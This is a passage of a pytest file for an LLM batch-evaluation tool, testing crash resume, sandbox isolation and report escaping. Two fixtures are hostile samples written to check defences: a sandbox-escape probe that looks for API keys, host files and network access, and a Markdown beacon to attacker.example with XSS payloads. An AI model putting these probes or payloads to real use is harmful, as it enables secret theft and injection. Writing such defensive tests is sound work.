    line whole JSON, and only the rows in flight at the kill run a second time."""
    import signal
    import subprocess
    import sys
    import time

    from tests.conftest import cli_env

    n = 8
    dataset = tmp_path / "d.jsonl"
    rows = [{"id": f"r{i}", "question": f"What is {i} plus 0?", "answer": str(i)} for i in range(n)]
    dataset.write_text("".join(json.dumps(r) + "\n" for r in rows))
    run_dir = tmp_path / "run"
    results = run_dir / "results.jsonl"
    with LLMTestServer(answering(rows)) as server:
        server.latency_s = 0.4
        command = [sys.executable, "-m", "mas2c.cli", "batch", str(dataset), "--spec", str(COT)]
        command += ["--scorer", "numeric", "--sandbox", "unisolated", "--workers", "2"]
        command += ["--llm", server.base_url, "--run-dir", str(run_dir)]
        env = cli_env(PYTHONPATH=str(ROOT))
        proc = subprocess.Popen(
            command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        try:
            deadline = time.monotonic() + 120
            while time.monotonic() < deadline:
                done = results.read_bytes().count(b"\n") if results.exists() else 0
                if done >= 2 and server.in_flight >= 1:
                    break
                assert proc.poll() is None, "the batch ended before it could be killed"
                time.sleep(0.02)
            proc.send_signal(signal.SIGKILL)
        finally:
            proc.kill()
            proc.wait(timeout=30)
        before = results.read_text().splitlines()
        assert 2 <= len(before) < n
        assert all(json.loads(line)["key"] for line in before)  # whole lines only
        with open(results, "ab") as handle:  # a crash inside a write: a torn last line
            handle.write(b'{"key": "r7", "status": "ok", "pass')
        first_requests = len(server.requests)
        again = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300)
        assert again.returncode == 0, again.stderr[-2000:]
        assert f"resuming: {len(before)} row(s) already" in again.stderr
        rerun = len(server.requests) - first_requests
    lines = results.read_text().splitlines()
    keys = [json.loads(line)["key"] for line in lines]
    assert sorted(keys) == sorted(r["id"] for r in rows)  # none lost, none twice
    assert rerun == n - len(before)  # finished rows never ran again
    assert first_requests - len(before) <= 2  # what was in flight (2 workers) at the kill
    summary = json.loads((run_dir / "summary.json").read_text())
    assert summary["complete"] and summary["finished"] == n and summary["accuracy"] == 1.0


def test_batch_of_solve_over_mapped_rows(tmp_path: Path) -> None:
    """`--solve TASK`: each row runs generate -> configure -> compile -> run -> rectify with
    its mapped fields as the input; the row folder keeps the whole solve tree. Three rows on
    three workers: their host-side parsing ran at once and CPython 3.11 failed one of them
    (SystemError: AST constructor recursion depth mismatch) until mas2c.pyast serialised it."""
    from mas2c.lang.validate import load_spec
    from mas2c.testserver import Script

    dataset = tmp_path / "d.jsonl"
    rows = [
        {"id": "a", "q": "What is 40 + 2?", "answer": "42"},
        {"id": "b", "q": "1+1?", "answer": "2"},
        {"id": "c", "q": "What is 41 + 1?", "answer": "42"},
    ]
    dataset.write_text("".join(json.dumps(r) + "\n" for r in rows))
    spec = json.dumps(load_spec(COT).to_data())
    script = Script(
        [
            (r"^You design multi-agent systems", spec),
            (r"^Careful problem solver", json.dumps({"reasoning": "r", "answer": "42"})),
        ],
        field="system",
    )
    with LLMTestServer(script) as server:
        with pytest.raises(BatchError, match=r"give --map INPUT=FIELD"):
            run_batch(options(tmp_path, dataset, server, spec=None, solve_task="Add."))
        summary = run_batch(
            options(
                tmp_path,
                dataset,
                server,
                spec=None,
                solve_task="Add.",
                mapping={"question": "q"},
                workers=3,
            )
        )
        # one generator request and one run per row, each run given the row's mapped field
        assert summary["not_recorded"] == []
        runs = sorted(r.last_user for r in server.requests if r.system.startswith("Careful"))
        assert len(runs) == 3, [(r.system[:30], r.last_user[:40]) for r in server.requests]
        assert len(server.requests) == 6
        assert "1+1?" in runs[0] and "What is 40 + 2?" in runs[1] and "41 + 1" in runs[2]
    assert summary["mode"] == "solve" and summary["complete"]
    assert summary["passed"] == 2 and summary["accuracy"] == round(2 / 3, 4)
    results = read_results(tmp_path / "run" / "results.jsonl")
    assert results["a"]["spec_source"] == "generated" and results["a"]["passed"]
    assert results["b"]["prediction"] == "42" and not results["b"]["passed"]
    for key, row in zip("abc", rows, strict=True):
        solve_dir = tmp_path / "run" / "rows" / key / "solve"
        assert (solve_dir / "spec.yaml").is_file() and (
            solve_dir / "run-1" / "result.json"
        ).is_file()
        assert json.loads((tmp_path / "run" / "rows" / key / "input.json").read_text()) == {
            "question": row["q"]
        }


@pytest.mark.parametrize("mode", ["spec", "solve"])
def test_a_sandbox_that_refuses_the_system_is_a_recorded_failure(
    tmp_path: Path, mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A container runtime the daemon does not have: the row is recorded as failed with code
    SandboxError in both modes (under --solve it was lost as 'not recorded', re-run on every
    resume)."""
    from mas2c.lang.validate import load_spec
    from mas2c.testserver import Script

    dataset = tmp_path / "d.jsonl"
    dataset.write_text(json.dumps({"id": "a", "question": "1+1?", "answer": "2"}) + "\n")
    script = Script(
        [(r"^You design multi-agent systems", json.dumps(load_spec(COT).to_data()))],
        field="system",
    )
    solve = {"spec": None, "solve_task": "Add.", "mapping": {"question": "question"}}
    extra: dict[str, Any] = solve if mode == "solve" else {}
    monkeypatch.setenv("MAS2C_RUNTIME", "mas2c-no-such-runtime")
    with LLMTestServer(script) as server:
        summary = run_batch(options(tmp_path, dataset, server, backend="docker", **extra))
    assert summary["not_recorded"] == []
    row = read_results(tmp_path / "run" / "results.jsonl")["a"]
    assert row["status"] == "error" and row["error_code"] == "SandboxError", row
    assert "mas2c-no-such-runtime" in row["error"]
    assert summary["failures"] == {"SandboxError": 1}


HOSTILE_CANDIDATE = """
def probe():
    import os, socket
    if os.path.exists({marker!r}):
        return "read a host file"
    if any(k.startswith("OPENAI") for k in os.environ):
        return "saw an OpenAI variable"
    for host in {hosts!r}:
        try:
            socket.create_connection((host, {port}), timeout=2).close()
            return "reached the host at " + host
        except OSError:
            pass
    try:
        open("/usr/lib/owned-by-candidate", "w").write("x")
        return "wrote outside its temp dir"
    except OSError:
        pass
    return "isolated"
"""


@pytest.mark.docker
def test_a_hostile_candidate_under_the_code_scorer_cannot_reach_the_host(
    docker_ready: None, tmp_path: Path
) -> None:
    """The code scorer runs the system's (an LLM's) code: in the Docker sandbox it sees no
    host file, no key, no network (a listener on every host address stays unreached) and a
    read-only root. The check passes only if every probe failed."""
    import socket

    from mas2c.batch import run_code_tests, write_code_scorer

    marker = tmp_path / "host-marker"
    marker.write_text("only the host has this file")
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen(8)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    hosts = ["127.0.0.1", "172.17.0.1", socket.gethostbyname(socket.gethostname())]
    code = HOSTILE_CANDIDATE.format(marker=str(marker), hosts=hosts, port=port)
    test = "def check(candidate):\n    assert candidate() == 'isolated', candidate()\n"
    os.environ["OPENAI_API_KEY"] = "sk-must-not-leak"
    try:
        score = run_code_tests(
            code,
            test,
            "probe",
            tmp_path / "score",
            scorer_dir=write_code_scorer(tmp_path / "scorer"),
            backend="docker",
            test_timeout_s=30.0,
            on_warning=_quiet,
        )
        try:
            listener.accept()
            reached = True
        except OSError:
            reached = False
    finally:
        del os.environ["OPENAI_API_KEY"]
        listener.close()
    assert score.passed, score.output
    assert not reached
    report = json.loads((tmp_path / "score" / "sandbox.json").read_text())
    assert report["isolation"] == "container"


def test_a_dataset_from_stdin_is_located_as_stdin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`mas2c batch -`: problems are at `<stdin>:LINE`, not at a temporary file's path."""
    import sys

    data = (
        b'{"id": "a", "question": "q", "answer": "1"}\n{"id": "b", "question": 5, "answer": "1"}\n'
    )
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    args = ["batch", "-", "--spec", str(COT), "--sandbox", "unisolated"]
    assert cli_main([*args, "--run-dir", str(tmp_path / "run")]) == 1
    err = capsys.readouterr().err
    assert "<stdin>:2 (id b): input 'question': expected string" in err, err
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data + b"\xff\n")))
    assert cli_main([*args, "--run-dir", str(tmp_path / "run2")]) == 1
    assert "mas2c batch: <stdin>:3: not UTF-8 text" in capsys.readouterr().err


def test_hostile_predictions_and_errors_are_plain_text_in_report_md() -> None:
    """An LLM's answer or a program's error lands in report.md's table of failed rows: it is
    text there, never an image that a Markdown viewer fetches (a beacon carrying what the
    answer holds), a link, raw HTML, or a column of its own."""
    from mas2c.batch import Row, report, summarize

    hostile = (
        "![x](https://attacker.example/p.png?d=secret) <img src=x onerror=alert(1)> "
        "[click](javascript:alert(1)) | extra | column\n# heading `code`"
    )
    rows = [Row(key="r1", index=0, data={}), Row(key="r2", index=1, data={})]
    done = {
        "r1": {"key": "r1", "status": "ok", "passed": False, "score": 0.0,
               "prediction": hostile, "expected": "42", "note": hostile},
        "r2": {"key": "r2", "status": "error", "error_code": "ToolError", "passed": False,
               "score": 0.0, "error": hostile},
    }  # fmt: skip
    text = report(rows, done, summarize(rows, done, {}, 1.0, [], None))
    table = [line for line in text.splitlines() if line.startswith(("| r1 ", "| r2 "))]
    assert len(table) == 2
    for line in table:
        assert len(re.split(r"(?<!\\)\|", line)) == 8, line  # six cells, no extra column
    assert "\n# heading" not in text
    assert not re.search(r"(?<!\\)\[", "".join(table))  # brackets escaped: no link, no image
    assert "<img" not in text and "&lt;img" in text


def test_a_results_file_with_insane_numbers_is_read_with_sane_ones(tmp_path: Path) -> None:
    """results.jsonl is the resume point, and a run folder may be edited or come from
    elsewhere: a NaN, negative or non-numeric cost, count, time or score no longer crashes
    the summary (float('x')) or hides spending from the cost cap (a negative cost)."""
    from mas2c.batch import Row, _cost, read_results, report, summarize

    path = tmp_path / "results.jsonl"
    lines = [
        '{"key": "a", "status": "ok", "passed": true, "score": "x", "cost_usd": -1e9, '
        '"tokens": "many", "llm_calls": 2.5, "total_seconds": NaN}',
        '{"key": "b", "status": "ok", "passed": "yes", "score": 7, "cost_usd": Infinity, '
        '"tokens": -4, "llm_calls": true, "total_seconds": "slow"}',
        '{"key": "c", "status": "ok", "passed": false, "score": 0.5, "cost_usd": 0.25, '
        '"tokens": 10, "llm_calls": 1, "total_seconds": 2.0}',
    ]
    path.write_text("\n".join(lines) + "\n")
    done = read_results(path)
    assert [(r["passed"], r["score"], _cost(r), r["tokens"]) for r in done.values()] == [
        (True, 1.0, 0.0, 0), (False, 0.0, 0.0, 0), (False, 0.5, 0.25, 10)
    ]  # fmt: skip
    rows = [Row(key=k, index=i, data={}) for i, k in enumerate("abc")]
    summary = summarize(rows, done, {}, 1.0, [], None)
    json.dumps(summary, allow_nan=False)
    assert (summary["cost_usd"], summary["tokens"], summary["llm_calls"]) == (0.25, 10, 1)
    assert "| c |" in report(rows, done, summary)
